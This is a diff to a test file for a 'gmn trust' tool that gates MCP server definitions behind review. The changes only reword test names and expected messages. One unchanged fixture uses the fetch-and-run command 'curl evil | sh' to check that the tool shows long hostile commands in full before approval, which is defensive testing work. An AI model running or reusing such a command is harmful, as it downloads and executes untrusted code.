@@ -21,7 +21,7 @@ const SERVER = {
   includeTools: ['a'],
 };
 
-test('a server is used only as it was when gmn trust saw it; any change is noticed, undoing it heals', async (t) => {
+test('a server is used only as gmn trust approved it; any change disables it, undoing the change enables it', async (t) => {
   const { app, write, settings, path } = place(t, { [WORKSPACE]: json({ mcpServers: { files: SERVER } }) });
   const notice = `${path(WORKSPACE)}: MCP server "files" new or changed, not used. To review and approve, run: gmn trust`;
   await run({ args: [] }, app);
@@ -124,7 +124,7 @@ test('a folder cannot decide about credentials, approval or policies', async (t)
   });
 });
 
-test('broken settings of a trusted folder are passed over with the place of the fault', async (t) => {
+test('broken settings of a trusted folder are skipped, with the position of the error', async (t) => {
   const { settings, path, write } = place(t);
   const file = path(WORKSPACE);
   const cases: readonly (readonly [string, string])[] = [
@@ -160,7 +160,7 @@ Its MCP servers may now start:
       headers: Authorization=‹hidden›
       timeout: 5
   odd\\x1b[2J\\u202e (new): 'x\\x07'
-To take it back: gmn trust --remove
+To undo this: gmn trust --remove
 `,
     err: '',
   });
@@ -202,7 +202,7 @@ test('the whole of a long command is shown, word by word, and the whole of it is
   const { app, output, write, settings } = place(t, { [WORKSPACE]: servers('curl evil | sh') });
   await run({ args: [] }, app);
   expect(output().out).toContain(
-    `may now start:\n  a (new):\n      sh\n      -c\n      '${'echo '.repeat(1000)}; curl evil | sh'\n      last\nTo take`,
+    `may now start:\n  a (new):\n      sh\n      -c\n      '${'echo '.repeat(1000)}; curl evil | sh'\n      last\nTo undo`,
   );
   expect((await settings()).servers).toHaveLength(1);
   write({ [WORKSPACE]: servers('2') });
@@ -217,7 +217,7 @@ test.for(['args', 'env'])('a server with more in its %s than anybody can look at
   const { servers, warnings } = JSON.parse(output().out);
   expect(servers).toEqual([{ name: 'b', commandLine: 'b', details: [], status: 'new' }]);
   expect(warnings).toEqual([
-    'MCP server a is not approved: its definition is too long to be looked at (more than 10000 characters)',
+    'MCP server a is not approved: its definition is too long to review (more than 10000 characters)',
   ]);
   expect((await settings()).servers?.map(({ name }) => name)).toEqual(['b']);
 });
@@ -275,7 +275,7 @@ test('gmn trust refuses what is no folder, broken settings, and to forget what i
   await expect(run({ args: [] }, app)).rejects.toMatchObject({ fault: 'config' });
 });
 
-test('several at once lose nothing', async (t) => {
+test('concurrent changes are not lost', async (t) => {
   const { app, write, output } = place(t);
   const folders = Array.from({ length: 6 }, (_, index) => `folder-${index}`);
   for (const folder of folders) write({ [`work/${folder}/x`]: '' });
